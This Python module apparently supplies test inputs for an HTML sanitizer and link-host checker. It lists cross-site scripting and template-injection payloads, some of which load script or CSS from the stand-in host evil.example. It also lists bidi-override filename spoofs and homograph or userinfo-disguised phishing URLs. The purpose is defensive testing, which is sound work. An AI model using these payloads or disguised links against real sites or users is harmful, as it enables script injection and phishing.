"""What people might write to make a page run, lie or break. `ran` is what runs, where anything does."""

from __future__ import annotations

TEXTS = (
    "<script>ran()</script>",
    "<ScRiPt src=//evil.example/x.js></ScRiPt>",
    "<img src=x onerror=ran()>",
    '"><img src=x onerror="ran()">',
    "<svg onload=ran()><circle r=9></svg>",
    "<svg><script>ran()</script></svg>",
    "<svg><animate onbegin=ran() attributeName=x dur=1s>",
    "<iframe srcdoc='<script>parent.ran()</script>'></iframe>",
    "<details open ontoggle=ran()>open</details>",
    "<input autofocus onfocus=ran()>",
    "<body onload=ran()>",
    "<video><source onerror=ran()></video>",
    "<a href=javascript:ran()>click</a>",
    "<math><mtext><table><mglyph><style><img src=x onerror=ran()>",
    "<template><script>ran()</script></template>",
    "<base href=//evil.example/>",
    "<meta http-equiv=refresh content='0;url=javascript:ran()'>",
    "<style>@import '//evil.example/x.css';*{display:none}</style>",
    "javascript:ran()",
    "JaVaScRiPt://%0aran()",
    "[click me](javascript:ran())",
    "![x](x onerror=ran())",
    "data:text/html,<script>parent.ran()</script>",
    "${ran()} {{ran()}} {{constructor.constructor('ran()')()}} <%= ran() %>",
    "`${ran()}`';ran();//",
    "&lt;script&gt;ran()&lt;/script&gt; &#60;b&#62;",
    "\\u003cscript\\u003eran()\\u003c/script\\u003e",
    "</textarea></title></style><script>ran()</script>",
    "__proto__ constructor toString",
    "user \u202egnp.exe\u202c photo",
    "\u2066left\u2069 \u2067right\u2069",
    "مرحبا، لا أستطيع التوقيع على الطلب",
    "שלום, ORD-417 לא נחתם",
    "👩🏽‍⚕️🏳️‍🌈👨‍👩‍👧‍👦 ok",
    "Z̷̢̛a̶͎̎l̵̰͠g̸̬͐o̷̯͝",
    "W" * 400,
)
# What is written, and the host that must be read in it: the one where the link really leads.
LINKS = (
    ("https://northwind.example.evil.example/desk", "northwind.example.evil.example"),
    ("https://аррӏе.com/", "xn--80ak6aa92e.com"),
    ("https://gооgle.com", "xn--ggle-55da.com"),
    ("https://evil.example/https://northwind.example", "evil.example"),
    ("https://evil.example\u202e/elpmaxe.dniwhtron//:sptth", "evil.example"),
    ("HTTPS://EVIL.EXAMPLE/<script>", "evil.example"),
)
NO_LINKS = (
    "[https://northwind.example](https://evil.example/login)",
    "https://northwind.example@evil.example/",
    "https://a:b@evil.example",
    "ftp://evil.example",
    "file:///etc",
)
